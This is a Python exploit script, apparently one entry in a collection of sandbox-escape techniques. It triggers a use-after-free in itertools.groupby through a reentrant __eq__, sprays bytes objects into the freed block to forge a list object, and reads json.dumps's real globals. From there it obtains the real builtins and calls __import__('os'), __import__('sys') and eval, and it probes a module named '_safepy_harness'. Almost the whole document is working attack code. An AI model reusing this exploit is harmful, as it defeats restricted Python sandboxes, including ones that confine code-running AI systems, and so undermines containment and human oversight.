# technique: itertools _grouper_next compares against a borrowed gbo->currkey; __eq__ advances the groupby (freeing it) and returns NotImplemented, so the reflected __eq__ runs on the freed key; we reclaim its 64-byte block with a 31-byte bytes whose data forges a list (type=&list from object.__repr__, ob_item=&json.dumps->func_globals) and index it
# expect: any
import itertools, json
def addr_of_repr(s):
    return int(s.split(' at ')[1].rstrip('>'), 16)
def addr(o):
    return addr_of_repr(object.__repr__(o))
TARGET = json.dumps
A_LIST = addr(list)
A_FN = addr(TARGET)
P = (0x1000000).to_bytes(8, 'little') + A_LIST.to_bytes(8, 'little') + (8).to_bytes(8, 'little') + (A_FN + 16).to_bytes(8, 'little')[:7]
Q = P + b'\x00'          # 32 bytes: slicing Q[:31] makes a fresh 31-byte bytes object (64-byte block)
N = 200
spray = [None] * N
st = {'code': None, 'gb': None, 'phase': 0, 'got': None, 'hit': None, 'rs': None}
class K:
    def __init__(self, i): self.i = i
    def __eq__(self, other):
        if st['phase'] == 2:
            st['phase'] = 3
            rs = object.__repr__(self)
            i = 0
            while i < N:
                spray[i] = Q[:31]
                i += 1
            st['rs'] = rs
            a_self = addr_of_repr(rs)
            i = 0
            while i < N:
                if addr(spray[i]) + 32 == a_self:
                    st['hit'] = i
                    st['got'] = self[0]; st['code'] = self[4]
                    break
                i += 1
            return False
        if st['phase'] == 0 and self.i == 0 and other.i == 1:
            st['phase'] = 1
            next(st['gb']); next(st['gb'])
            st['phase'] = 2
            return NotImplemented
        return False
    __hash__ = None
def src():
    i = 0
    while i < 10:
        yield K(i)
        i += 1
gb = itertools.groupby(src())
st['gb'] = gb
k, g = next(gb)
next(g)
try:
    next(g)
except StopIteration:
    pass
G = st['got']                     # the REAL json module globals (json.dumps.__globals__)
print('hit', st['hit'], type(G), G['__name__'])
B = G['__builtins__']             # the REAL builtins dict
print('real builtins:', type(B), B['open'], B['__import__'], B['eval'], B['exec'], B['compile'])
print('json.dumps code object:', type(st['code']), repr(st['code'])[:90])
print('codecs module from json globals:', G['codecs'])
def tryit(label, f):
    try:
        print(label, '->', repr(f())[:150])
    except BaseException as e:
        print(label, 'EXC', type(e).__name__, str(e)[:150])
tryit("real __import__('os')", lambda: B['__import__']('os'))
tryit("real __import__('sys')", lambda: B['__import__']('sys'))
tryit("real __import__('_safepy_harness')", lambda: B['__import__']('_safepy_harness'))
tryit("real eval('6*7')", lambda: B['eval']('6*7'))
